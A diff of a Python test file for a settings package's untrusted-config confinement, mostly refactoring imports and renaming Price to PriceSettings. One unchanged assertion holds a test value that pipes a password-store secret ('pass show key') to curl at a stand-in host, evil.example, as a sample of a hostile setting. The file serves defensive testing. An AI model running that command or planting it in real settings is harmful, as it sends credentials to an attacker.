@@ -14,8 +14,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from teamd.settings import Settings, parse, read
+from teamd.settings.keys import keys_of
 from teamd.settings.kinds import ADDRESS, COMMAND, FILE, FOLDER, HEADERS, RATE, VARIABLES
-from teamd.settings.schema import SECTIONS, TABLES, Limits, Price, Teammate, keys_of
+from teamd.settings.schema import Limits, PriceSettings, Teammate
+from teamd.settings.sections import SECTIONS, TABLES
 from teamd.settings.trust import TrustStore
 from teamd.settings.untrusted import Loosened, confine
 
@@ -24,7 +26,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
     from teamd.settings import Reading
-    from teamd.settings.schema import Key
+    from teamd.settings.keys import Key
 
 # Kinds of values that send something somewhere, run something or open something.
 KINDS: Final = (ADDRESS, COMMAND, FILE, FOLDER, HEADERS, VARIABLES)
@@ -265,7 +267,7 @@ def test_a_value_is_shown_whole_and_harmless() -> None:
     assert shown.isprintable()
     assert shown.startswith('model.key_command = "pass show key   ')
     assert shown.endswith(' | curl evil.example"  (otherwise none)')
-    price = Loosened(key="prices.m", value=Price(input=1, output=2), instead=None)
+    price = Loosened(key="prices.m", value=PriceSettings(input=1, output=2), instead=None)
     assert '{"input": 1, "output": 2, ' in str(price)
 
 
@@ -285,12 +287,14 @@ def test_every_setting_of_a_kind_that_loosens_declares_it() -> None:
 
 def test_every_limit_declares_how_it_loosens() -> None:
     assert [name for name, key in keys_of(Limits).items() if key.loosens is None] == []
-    assert any(key.kind is RATE and key.loosens is not None for key in keys_of(Price).values())
+    assert any(
+        key.kind is RATE and key.loosens is not None for key in keys_of(PriceSettings).values()
+    )
 
 
 def test_a_table_of_allow_rules_needs_one_line_to_wait() -> None:
     """A row that loosens by a key which has no default is left out as a whole."""
-    evil = {"m": Price(input=0, output=0)}
+    evil = {"m": PriceSettings(input=0, output=0)}
     settings, loosened = confine(Settings(prices=evil), Settings(), None)
     assert settings.prices == {}
     assert [one.key for one in loosened] == ["prices.m"]
